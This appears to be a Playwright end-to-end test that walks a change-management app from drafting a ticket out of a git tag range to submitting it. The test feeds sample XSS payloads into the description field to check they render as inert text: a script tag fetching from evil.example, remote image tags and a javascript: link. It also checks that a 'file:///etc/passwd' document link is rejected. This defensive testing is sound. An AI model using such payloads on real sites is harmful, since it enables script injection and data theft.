import { expect, type Page } from '@playwright/test';
import { startEmpty } from '#test/support/first-steps.ts';
import { makeRepository } from '#test/support/git.ts';
import { ready } from '#test/support/shells.ts';
import { test } from '#test/support/slipway-test.ts';

/** A repository with a feature between two tags: new code, a migration and a newer library. */
function shop() {
  const repository = makeRepository({ name: 'shop' });
  const ada = 'Ada Meier <ada@example.org>';
  repository.commit(
    {
      message: 'feat: take card payments',
      author: ada,
      files: {
        'payments/api.ts': 'export {};\n',
        'payments/package.json': '{"dependencies":{"retry":"1.0.0"}}',
      },
      tag: 'v1.0.0',
    },
    {
      message: 'feat(payments): retry a declined capture once (#31)\n\nPAY-12',
      author: ada,
      files: {
        'payments/retry.ts': 'export const retries = 1;\n',
        'payments/migrations/002.sql': 'ALTER TABLE capture ADD COLUMN tries integer;\n',
        'payments/package.json': '{"dependencies":{"retry":"2.1.0"}}',
      },
      tag: 'v1.1.0',
    },
  );
  return repository;
}

async function addService(page: Page, name: string, path: string): Promise<void> {
  await page.getByRole('link', { name: 'Settings', exact: true }).click();
  await page.getByRole('button', { name: 'Service', exact: true }).click();
  const dialog = page.getByRole('dialog', { name: 'New service' });
  await dialog.getByLabel('Name').fill(name);
  await dialog
    .getByLabel(/folder/i)
    .first()
    .fill(path);
  await dialog.getByRole('button', { name: 'Save' }).click();
  await expect(dialog).toBeHidden();
}

async function addPerson(page: Page, name: string, roles: readonly string[]): Promise<void> {
  await page.getByRole('button', { name: 'Person', exact: true }).click();
  const dialog = page.getByRole('dialog', { name: 'New person' });
  await dialog.getByRole('textbox', { name: 'Name' }).fill(name);
  await dialog.getByRole('combobox', { name: 'Roles' }).click();
  for (const role of roles) await page.getByRole('option', { name: role, exact: true }).click();
  await dialog.getByRole('textbox', { name: 'Name' }).click();
  await dialog.getByRole('button', { name: 'Save' }).click();
  await expect(dialog).toBeHidden();
}

const box = (page: Page, label: string) => page.getByRole('textbox', { name: label, exact: true });

async function write(page: Page, label: string, words: string): Promise<void> {
  await box(page, label).fill(words);
  await box(page, label).press('Tab');
}

async function choose(page: Page, label: string, option: string): Promise<void> {
  await page.getByLabel(label, { exact: true }).click();
  await page.getByRole('option', { name: option, exact: true }).click();
}

async function plan(page: Page, which: string, hour: string, minute: string): Promise<void> {
  const date = page.getByLabel(`${which}, date`);
  await date.fill('4 Mar 2027');
  await date.press('Tab');
  await page.getByLabel(`${which}, hour`).fill(hour);
  await page.getByLabel(`${which}, minute`).fill(minute);
  await page.getByLabel(`${which}, minute`).press('Tab');
}

const region = (page: Page, name: string) => page.getByRole('region', { name, exact: true });

/** The sum of the coach as it stands on the screen. */
async function points(page: Page): Promise<number> {
  const words = await region(page, 'Coach')
    .getByText(/^\d+ of 100$/)
    .textContent();
  return Number(words?.split(' ')[0]);
}

const hostile = [
  'A declined capture is tried once more. Customers notice nothing.',
  'Typed by somebody else: <script>fetch("https://evil.example/script")</script>',
  '![remote](https://evil.example/picture.png) <img src="https://evil.example/tag.png">',
  '[read more](javascript:alert(1))',
].join('\n\n');

test('J2 write the change: from a range of a repository to a submitted ticket that a stranger understands', async ({
  app,
}) => {
  test.setTimeout(240_000);
  const repository = shop();
  const home = new URL(app.url()).host;
  const elsewhere: string[] = [];
  app.on('request', (request) => {
    const { protocol, host } = new URL(request.url());
    if (/^(https?|wss?):$/.test(protocol) && host !== home) elsewhere.push(request.url());
  });
  const coach = region(app, 'Coach');
  const risk = region(app, 'Risk');
  const paper = region(app, 'What the CAB sees');

  await test.step('a workspace with a service and people who will decide', async () => {
    await startEmpty(app);
    await addService(app, 'payments', 'payments');
    await addPerson(app, 'Mara Kovac', ['tech lead', 'QA']);
    await addPerson(app, 'Ada Meier', ['approver', 'product manager']);
  });

  await test.step('a ticket is drafted from a range', async () => {
    await app.getByRole('link', { name: 'Changes', exact: true }).first().click();
    await app.getByRole('button', { name: 'Change', exact: true }).first().click();
    const dialog = app.getByRole('dialog', { name: 'New change' });
    await dialog.getByLabel('Short description').fill('PAY-12');
    await dialog.getByRole('button', { name: 'Create and open' }).click();
    await app.waitForURL(/\/change\//);
    await app.getByRole('button', { name: 'More for this change' }).click();
    await app.getByRole('menuitem', { name: 'Draft from code' }).click();
    const draft = app.getByRole('dialog', { name: /^Draft CHG-A1 from code/ });
    await draft.getByLabel('Folder of the Git repository').fill(repository.root);
    await draft.getByRole('button', { name: 'Use this folder' }).click();
    await draft.getByLabel('From, not included').fill('v1.0.0');
    await draft.getByLabel('To, included').fill('v1.1.0');
    await draft.getByRole('button', { name: 'Show what would change' }).click();
    await expect(draft.getByText('retry 1.0.0 → 2.1.0')).toBeVisible();
    await draft.getByRole('checkbox', { name: 'Take the new one for Short description' }).check();
    await draft.getByRole('button', { name: /^Write the draft into/ }).click();
    await expect(draft).toBeHidden();
    await expect(paper).toContainText('Retry a declined capture once in payments');
    await expect(box(app, 'Description')).toHaveValue(/payments\/migrations\/002\.sql/);
    repository.remove();
  });

  await test.step('the coach reacts to what is typed, and Fix leads to the field', async () => {
    const empty = await points(app);
    const why = coach.getByRole('listitem').filter({ hasText: 'Justification names the value' });
    await expect(why).toContainText('There is none.');
    await why.getByRole('button', { name: /^Fix/ }).click();
    await expect(box(app, 'Justification')).toBeFocused();
    await write(
      app,
      'Justification',
      'About 41,000 € a week are lost to declined captures. Without it the spring sale goal is missed.',
    );
    await expect(why.getByText('There is none.')).toHaveCount(0);
    await expect.poll(() => points(app)).toBeGreaterThan(empty);

    const written = await points(app);
    const durations = coach.getByRole('listitem').filter({ hasText: 'Every step has a duration' });
    await durations.getByRole('button', { name: /^Fix/ }).click();
    await expect(box(app, 'Minutes of deployment step 1')).toBeFocused();
    const drafted = { deployment: 3, 'back-out': 2, validation: 2 };
    for (const [kind, count] of Object.entries(drafted))
      for (let n = 1; n <= count; n += 1) await write(app, `Minutes of ${kind} step ${n}`, '5');
    await expect.poll(() => points(app)).toBeGreaterThan(written);
  });

  await test.step('people, a time, answers and evidence', async () => {
    await choose(app, 'Assignee, carries it out', 'Rosa Ruiz');
    await choose(app, 'Validator, says that it works', 'Mara Kovac');
    await plan(app, 'Planned start', '22', '00');
    await plan(app, 'Planned end', '23', '00');
    await expect(paper).toContainText('Thu 4 Mar');

    const sum = await risk.textContent();
    await app
      .getByRole('radiogroup', { name: 'Can it be undone?' })
      .getByText('No +14', { exact: true })
      .click();
    await expect(risk).toContainText('+ 14');
    expect(await risk.textContent()).not.toBe(sum);

    await app.getByRole('radiogroup', { name: 'Testing complete' }).getByText('Yes', { exact: true }).click();
    await write(app, 'Evidence for Testing complete', 'Run 812 of the pipeline');
    await expect(app.getByText(/^Confirmed by Rosa Ruiz/)).toBeVisible();
    const documents = region(app, 'Documents');
    await documents.getByLabel('Title').fill('Load test');
    await documents.getByLabel('Address').fill('file:///etc/passwd');
    await documents.getByRole('button', { name: 'Add' }).click();
    await expect(documents.getByText('begins with https:// or http://')).toBeVisible();
    await documents.getByLabel('Address').fill('https://files.example/load.pdf');
    await documents.getByRole('button', { name: 'Add' }).click();
    await expect(documents.getByRole('link', { name: 'Load test' })).toBeVisible();
  });

  await test.step('what somebody else may have typed stays text', async () => {
    await write(app, 'Description', hostile);
    await expect(paper).toContainText('<script>fetch("https://evil.example/script")</script>');
    await expect(paper).toContainText('read more');
    await expect(paper.locator('script, img, a, iframe')).toHaveCount(0);
  });

  await test.step('one edit is undone, and the history of a field shows what it was', async () => {
    await write(app, 'Impact', 'Nobody notices');
    await write(app, 'Impact', 'Merchants see captures a minute late');
    await app.getByRole('button', { name: /^Undo/ }).first().click();
    await expect(box(app, 'Impact')).toHaveValue('Nobody notices');
    await app.locator('#field-title').getByRole('button', { name: 'Earlier values' }).click();
    const history = app.getByRole('list', { name: 'Values of Short description' });
    await expect(history.getByRole('listitem').filter({ hasText: 'PAY-12' })).toBeVisible();
    await app.keyboard.press('Escape');
    await expect(history).toBeHidden();
  });

  await test.step('a stranger reads what, why, how risky, when, and the way back', async () => {
    await expect(paper).toContainText('Retry a declined capture once in payments');
    await expect(paper).toContainText('About 41,000 € a week are lost');
    await expect(paper).toContainText(/Risk(Low|Moderate|High|Very high), \d+/);
    await expect(paper).toContainText(/Returns tov?1\.0\.0/);
  });

  await test.step('it is submitted: what is decided on can only be amended', async () => {
    await app.getByRole('button', { name: 'Submit for assessment' }).click();
    await app.getByRole('dialog').getByRole('button', { name: 'Submit for assessment' }).click();
    await expect(app.getByRole('button', { name: 'Send for authorisation' })).toBeVisible();
  });

  const stands = async () => {
    await expect(app.getByRole('button', { name: 'Amend', exact: true })).toBeVisible();
    await expect(
      region(app, 'Approvals')
        .getByText(/^Waits for .*M\. Kovac/)
        .first(),
    ).toBeVisible();
    await expect(box(app, 'Description')).not.toBeEditable();
    await expect(box(app, 'Short description')).toHaveValue('Retry a declined capture once in payments');
    await expect(box(app, 'Description')).toHaveValue(hostile);
    await expect(box(app, 'Justification')).toHaveValue(/^About 41,000 €/);
    await expect(region(app, 'Steps')).toContainText('Return payments to v1.0.0');
    await expect(box(app, 'Evidence for Testing complete')).toHaveValue('Run 812 of the pipeline');
    await expect(app.getByRole('link', { name: 'Load test' })).toHaveAttribute(
      'href',
      'https://files.example/load.pdf',
    );
    await expect(paper).toContainText('Thu 4 Mar');
    await expect(risk).toContainText('+ 14');
  };
  await stands();
  await app.reload();
  await ready(app);
  await test.step('all of it stands there after a reload', stands);
  expect(elsewhere, 'requests that left the page').toEqual([]);
});
